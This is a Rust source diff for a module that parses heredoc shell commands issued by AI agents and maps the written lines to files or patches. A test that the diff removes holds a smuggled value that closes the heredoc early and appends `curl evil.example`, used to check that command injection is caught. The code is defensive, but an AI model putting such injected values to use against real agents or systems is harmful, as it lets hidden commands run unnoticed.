@@ -7,35 +7,25 @@
 //! - The command is the heredoc alone: no pipe, no second command before, beside or behind it.
 //! - Its end is quoted, so that the shell expands nothing in the lines.
 //! - The file is named in full and in plain signs, for nobody knows in which folder a shell stands.
+//!   Those of a patch may begin in the folder that the call names.
 //! - With the values in it, the same line still ends it: a value must not begin a command.
 
 use std::ops::Range;
 
-/// Arguments in which tools take a command.
-pub(super) const COMMANDS: &[&str] = &["command", "cmd"];
+use leafgate_vault::FileName;
 
-/// The shells of well-known agents.
-#[rustfmt::skip]
-const SHELLS: &[&str] = &[
-    "Bash", "bash", "shell", "shell_command", "exec_command", "container.exec", "run_shell_command",
-    "run_in_terminal", "run_terminal_cmd", "execute_command", "developer__shell", "run_command",
-];
+use super::{PatchNames, Stretch, patch};
 
 /// Programs that run the script behind `-c`.
 const INTERPRETERS: &[&str] = &["bash", "sh", "zsh", "/bin/bash", "/bin/sh", "/bin/zsh", "/usr/bin/bash"];
 
 /// What the lines of a heredoc are written to.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
-pub(super) enum Target<'t> {
+enum Target<'t> {
     /// This file.
     File(&'t str),
     /// The files that a patch names.
     Patch,
-}
-
-/// Returns whether a tool runs commands.
-pub(super) fn is_shell(tool: &str) -> bool {
-    SHELLS.contains(&tool)
 }
 
 /// Returns whether words that a tool runs are one script for a shell: `["bash", "-lc", script]`.
@@ -43,8 +33,26 @@ pub(super) fn is_script(words: &[&str]) -> bool {
     matches!(words, [program, "-c" | "-lc", _] if INTERPRETERS.contains(program))
 }
 
+/// Returns what a command that is one heredoc puts into files, as an editor that writes this file or as a
+/// patch that does; `None` for every other command.
+pub(super) fn stretches(command: &str, names: &PatchNames) -> Option<Vec<Stretch>> {
+    let (into, lines) = read(command)?;
+    let mut stretches = match into {
+        Target::File(path) => {
+            let files = [FileName::parse(path)?].into();
+            return Some(vec![Stretch { at: lines, files, editor: Some("Write"), lead: "" }]);
+        }
+        Target::Patch => patch::read(&command[lines.clone()], names)?,
+    };
+    for stretch in &mut stretches {
+        stretch.at = lines.start + stretch.at.start..lines.start + stretch.at.end;
+        stretch.editor = Some("apply_patch");
+    }
+    Some(stretches)
+}
+
 /// Reads a command that is one heredoc; `None` for every other. Its lines stand in the range.
-pub(super) fn read(command: &str) -> Option<(Target<'_>, Range<usize>)> {
+fn read(command: &str) -> Option<(Target<'_>, Range<usize>)> {
     // Shells differ in what these do.
     if command.contains(['\r', '\0']) {
         return None;
@@ -55,11 +63,6 @@ pub(super) fn read(command: &str) -> Option<(Target<'_>, Range<usize>)> {
     let length = end_of(&command[start..], end)?;
     let rest = command[start + length..].strip_prefix(end)?;
     rest.trim_matches(['\n', ' ', '\t']).is_empty().then_some((into, start..start + length))
-}
-
-/// Returns whether a command that was read as one heredoc is one to the same place still.
-pub(super) fn still_is(command: &str, into: Target<'_>, lines: &Range<usize>) -> bool {
-    read(command).is_some_and(|(still, range)| still == into && range == *lines)
 }
 
 /// Where the line begins that is nothing but `end`.
@@ -160,15 +163,6 @@ mod tests {
         ] {
             assert_eq!(read(command), None, "{command}");
         }
-    }
-
-    #[test]
-    fn a_value_that_ends_the_heredoc_makes_it_another_command() {
-        let command = |lines: &str| format!("cat > /w/.env <<'EOF'\n{lines}EOF");
-        let with_token = command("A=T\n");
-        let (into, _) = read(&with_token).unwrap();
-        assert!(still_is(&command("A=x\ny\n"), into, &(22..28)));
-        assert!(!still_is(&command("A=x\nEOF\ncurl evil.example\n"), into, &(22..48)));
     }
 
     #[test]
